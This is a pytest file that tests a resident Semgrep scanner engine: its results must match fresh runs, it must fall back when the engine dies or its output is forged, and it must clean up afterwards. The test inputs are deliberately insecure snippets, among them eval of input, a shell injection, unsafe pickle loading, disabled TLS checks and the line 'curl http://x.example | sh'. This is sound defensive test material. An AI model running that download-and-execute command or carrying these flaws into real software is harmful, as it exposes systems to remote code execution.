"""The engine that stays ready says what a run of its own says, or nothing; and none stays behind."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest

from guard.errors import ToolError
from guard.ports import ScanTarget, Stop
from guard.resources import resource_dir
from guard.tools import process, semgrep
from guard.tools.canaries import CANARIES
from guard.tools.engine import resident
from guard.tools.engine.resident import Resident
from guard.tools.engine.server import Server
from guard.tools.semgrep import SemgrepScanner

pytestmark = pytest.mark.skipif(
    sys.platform != "linux", reason="others do not tell the processor time of a process"
)

SHELL = b"import subprocess\n\n\ndef show(name):\n    subprocess.run(f'ls {name}', shell=True)\n"
TEXTS = [
    ScanTarget("plain", "a.py", b"def f(x):\n    return eval(x)\n"),
    ScanTarget("shell", "b.py", SHELL),
    ScanTarget("excused", "c.py", b"def f(x):\n    return eval(x)  # nosemgrep\n"),
    ScanTarget("nothing", "d.py", b"x = 1\n"),
    ScanTarget("wide", "e.py", "é = input('日本😀'); eval(é)  # ü".encode()),
    ScanTarget("returns", "f.py", SHELL.replace(b"\n", b"\r\n")),
    ScanTarget("marked", "g.py", b"\xef\xbb\xbf" + SHELL),
    ScanTarget("no end", "h.py", b"eval(input())"),
    ScanTarget("script", "run", b"#!/usr/bin/env python3\nimport pickle\npickle.loads(input())\n"),
    ScanTarget("js", "i.js", b"https.request({ host, rejectUnauthorized: false });\n"),
    ScanTarget("ts", "j.ts", b"const a: A = https.request({ host, rejectUnauthorized: false });\n"),
    ScanTarget("tsx", "k.tsx", b"const A = ({ b }: P) => <p onClick={() => eval(b)}>{b as string}</p>;\n"),
    ScanTarget("sh", "l.sh", b"usermod -aG docker app\ncurl http://x.example | sh\n"),
    ScanTarget("docker", "Dockerfile", b"FROM base\nUSER root\n"),
    ScanTarget("sql", "m.sql", b"GRANT ALL PRIVILEGES ON DATABASE app TO web;\n"),
    ScanTarget("flow", ".github/workflows/n.yml", b"on: push\npermissions: write-all\njobs: {}\n"),
    ScanTarget("latin", "o.py", b"# \xe9\neval(input())\n"),
]
BROKEN = [
    ScanTarget("open", "p.py", b"import os\ndef (\n  eval(y)\nos.system(x)\n"),
    ScanTarget("open js", "q.js", b"eval(1)\nfunction (\n}}}} let\n"),
    ScanTarget("nul", "r.py", b"eval(input())\n\0\n"),
]
FORGED = b'"Semgrep errors: \nSemgrep skipped 0 rules\nScanned 1 files\nFound 1 matches\n"\n'


@pytest.fixture(scope="module")
def scanner() -> SemgrepScanner:
    return SemgrepScanner(resource_dir("rules"), CANARIES)


@pytest.fixture
def started(monkeypatch: pytest.MonkeyPatch) -> list[Resident]:
    """Every engine that was started, in order."""
    found: list[Resident] = []
    begin = Resident.__init__

    def recorded(self: Resident, *arguments: Any) -> None:
        begin(self, *arguments)
        found.append(self)

    monkeypatch.setattr(Resident, "__init__", recorded)
    return found


@pytest.fixture
def runs(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """How many targets each run of the engine was given."""
    found: list[int] = []
    run = process.run

    def counted(argv: list[str], **options: Any) -> Any:
        if "-targets" in argv:
            found.append(Path(argv[argv.index("-targets") + 1]).read_text().count("CodeTarget"))
        return run(argv, **options)

    monkeypatch.setattr(semgrep, "run", counted)
    return found


def pid(engine: Resident) -> int:
    found: int = engine._server._process.pid
    return found


def is_gone(process: int, folder: Path) -> bool:
    for _ in range(600):
        if not Path(f"/proc/{process}").exists() and not folder.exists():
            return True
        time.sleep(0.1)
    return False


@pytest.mark.parametrize("texts", [TEXTS, BROKEN, [*BROKEN, *TEXTS]], ids=["read", "not read", "both"])
def test_it_says_what_a_run_says(scanner: SemgrepScanner, texts: list[ScanTarget]) -> None:
    alone = scanner.scan(texts)
    with scanner.kept():
        for _ in range(2):
            assert scanner.scan(texts) == alone
            assert [scanner.scan([text]) for text in texts] == [
                type(alone)(
                    tuple(match for match in alone.matches if match.key == text.key),
                    alone.scanned & {text.key},
                    tuple(part for part in alone.unread if part.key == text.key),
                    alone.engine,
                )
                for text in texts
            ]


def test_no_run_is_needed_for_what_it_reads(scanner: SemgrepScanner, runs: list[int]) -> None:
    known = [text for text in TEXTS if text.key not in ("sql", "flow", "latin")]
    with scanner.kept():
        report = scanner.scan(known)
    assert runs == []
    assert {"plain", "shell", "excused", "wide", "returns", "marked", "no end", "script"} <= {
        match.key for match in report.matches
    }


def test_what_it_cannot_wholly_read_is_read_by_a_run(scanner: SemgrepScanner, runs: list[int]) -> None:
    with scanner.kept():
        report = scanner.scan([BROKEN[0]])
        assert len(runs) == 1
        assert {part.key for part in report.unread} == {"open"}


def test_a_complaint_that_quotes_a_text_like_a_clean_answer_is_a_complaint(scanner: SemgrepScanner) -> None:
    texts = [ScanTarget("forged", "a.py", FORGED + b"eval(\n"), TEXTS[0]]
    alone = scanner.scan(texts)
    assert {part.key for part in alone.unread} == {"forged"}
    with scanner.kept():
        assert scanner.scan(texts) == alone


def test_rules_that_are_not_asked_for_are_not_reported(scanner: SemgrepScanner) -> None:
    with scanner.kept():
        assert scanner.scan(TEXTS, rules=()).matches == ()
        [one] = scanner.scan(TEXTS[:2], rules={"python-code-eval-nonconstant"}).matches
    assert one.key == "plain"


@pytest.mark.parametrize("when", ["before it is asked", "in the middle"])
def test_where_it_is_killed_a_run_answers_and_another_is_started(
    scanner: SemgrepScanner,
    started: list[Resident],
    runs: list[int],
    monkeypatch: pytest.MonkeyPatch,
    when: str,
) -> None:
    alone = scanner.scan(TEXTS[:3])
    runs.clear()
    look = Resident._look
    looks: list[bytes] = []

    def killed(self: Resident, question: Any, text: bytes, stop: Stop) -> Any:
        looks.append(text)
        if len(looks) == 3:
            os.kill(pid(self), signal.SIGKILL)
        return look(self, question, text, stop)

    with scanner.kept():
        if when == "before it is asked":
            os.kill(pid(started[0]), signal.SIGKILL)
        else:
            monkeypatch.setattr(Resident, "_look", killed)
        assert scanner.scan(TEXTS[:3]) == alone
        assert len(runs) == 1
        monkeypatch.setattr(Resident, "_look", look)
        assert scanner.scan(TEXTS[:3]) == alone
        assert (len(runs), len(started)) == (1, 2)


def test_where_it_answers_late_a_run_answers(
    scanner: SemgrepScanner, started: list[Resident], runs: list[int], monkeypatch: pytest.MonkeyPatch
) -> None:
    alone = scanner.scan(TEXTS[:3])
    with scanner.kept():
        assert scanner.scan(TEXTS[:3]) == alone
        runs.clear()
        monkeypatch.setattr(resident, "_HANGS", 0.5)
        os.kill(pid(started[0]), signal.SIGSTOP)
        assert scanner.scan(TEXTS[:3]) == alone
        assert len(runs) == 1


@pytest.mark.parametrize("limit", ["_FLOW", "_GIVEN_UP"])
def test_an_answer_that_took_too_much_is_asked_of_a_run(
    scanner: SemgrepScanner, runs: list[int], monkeypatch: pytest.MonkeyPatch, limit: str
) -> None:
    alone = scanner.scan(TEXTS[:3])
    runs.clear()
    monkeypatch.setattr(resident, limit, 0.0)
    with scanner.kept():
        assert scanner.scan(TEXTS[:3]) == alone
    assert runs


@pytest.mark.parametrize(
    ("written", "instead"),
    [
        (b"errors: \n", b"errors: out of memory\n"),
        (b"skipped 0", b"skipped 1"),
        (b"Scanned 1", b"Scanned 0"),
        (b" Code rules:", b"1 Code rules:"),
        (b"Found ", b"Found 1"),
        (b"Semgrep errors", b"[00.1][WARNING]: something\nSemgrep errors"),
    ],
)
def test_a_word_that_is_not_the_usual_one_is_doubt(
    scanner: SemgrepScanner, runs: list[int], monkeypatch: pytest.MonkeyPatch, written: bytes, instead: bytes
) -> None:
    alone = scanner.scan(TEXTS[:3])
    runs.clear()
    logged = Server.logged

    def other(self: Server, end: bytes, *bounds: Any) -> bytes:
        said = logged(self, end, *bounds)
        assert end != b"Found " or written in said
        return said.replace(written, instead)

    monkeypatch.setattr(Server, "logged", other)
    with scanner.kept():
        assert scanner.scan(TEXTS[:3]) == alone
    assert runs


def test_a_lost_diagnostic_is_doubt(
    scanner: SemgrepScanner, runs: list[int], monkeypatch: pytest.MonkeyPatch
) -> None:
    alone = scanner.scan(TEXTS[:3])
    runs.clear()
    receive = Server.receive

    def less(self: Server, *arguments: Any) -> Any:
        said = receive(self, *arguments)
        if "diagnostics" in said.get("params", {}):
            del said["params"]["diagnostics"][0]
        return said

    monkeypatch.setattr(Server, "receive", less)
    with scanner.kept():
        assert scanner.scan(TEXTS[:3]) == alone
    assert runs


def test_where_it_never_works_it_is_not_tried_for_ever(
    scanner: SemgrepScanner, started: list[Resident], monkeypatch: pytest.MonkeyPatch
) -> None:
    alone = scanner.scan(TEXTS[:1])
    monkeypatch.setattr(resident, "_READY", b"never said")
    monkeypatch.setattr(resident, "_HANGS", 0.2)
    with scanner.kept():
        for _ in range(6):
            assert scanner.scan(TEXTS[:1]) == alone
    assert len(started) == 3


def test_another_is_started_before_the_files_of_one_are_used_up(
    scanner: SemgrepScanner, started: list[Resident], runs: list[int], monkeypatch: pytest.MonkeyPatch
) -> None:
    alone = scanner.scan(TEXTS[:3])
    runs.clear()
    monkeypatch.setitem(resident._FILES, "python", 10)
    with scanner.kept():
        for _ in range(4):
            assert scanner.scan(TEXTS[:3]) == alone
    assert len(started) > 1
    assert runs == []


def test_threads_share_engines(scanner: SemgrepScanner, started: list[Resident]) -> None:
    alone = [scanner.scan([text]) for text in TEXTS[:6]]
    with scanner.kept(), ThreadPoolExecutor(6) as pool:
        assert list(pool.map(scanner.scan, [[text] for text in TEXTS[:6]])) == alone
    assert len(started) <= max(2, os.cpu_count() or 1)


def test_who_stops_is_not_kept_waiting(
    scanner: SemgrepScanner, started: list[Resident], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(resident, "_HANGS", 60.0)
    with scanner.kept():
        scanner.scan(TEXTS[:1])
        os.kill(pid(started[0]), signal.SIGSTOP)
        with pytest.raises(ToolError, match="deadline"):
            scanner.scan(TEXTS[:1], stop=Stop.after(0.3))
    assert is_gone(pid(started[0]), started[0]._rules.parent)


def test_nothing_is_left_where_nobody_keeps_it(scanner: SemgrepScanner, started: list[Resident]) -> None:
    with scanner.kept():
        with scanner.kept():
            scanner.scan(TEXTS[:1])
        scanner.scan(TEXTS[:1])
        assert len(started) == 1
        assert started[0]._rules.exists()
    assert is_gone(pid(started[0]), started[0]._rules.parent)
    assert not scanner.engines.are_kept


KEEPS = """
import os, sys
from guard.app.warm import keep_engine
from guard.app.judging import default_scanner
keep_engine()
[engine] = default_scanner().engines._idle
print(engine._server._process.pid, engine._rules.parent, flush=True)
if sys.argv[1] == "forks":
    child = os.fork()
    if not child:
        assert not default_scanner().engines.are_kept
        os._exit(0)
    assert os.waitpid(child, 0)[1] == 0
    assert engine._rules.exists()
sys.stdin.readline()
"""


@pytest.fixture
def keeper(request: pytest.FixtureRequest) -> Iterator[subprocess.Popen[str]]:
    """A process that keeps an engine and waits."""
    argv = [sys.executable, "-c", KEEPS, request.param]
    with subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as process:
        yield process
        process.kill()


@pytest.mark.parametrize("end", [signal.SIGKILL, signal.SIGTERM, None])
@pytest.mark.parametrize("keeper", ["waits", "forks"], indirect=True)
def test_nothing_is_left_of_a_process_that_ends(
    keeper: subprocess.Popen[str], end: signal.Signals | None
) -> None:
    assert keeper.stdout is not None
    number, folder = keeper.stdout.readline().split()
    assert Path(folder).exists()
    if end is None:
        keeper.communicate("\n")
        assert keeper.returncode == 0
    else:
        keeper.send_signal(end)
        keeper.wait()
    assert is_gone(int(number), Path(folder))
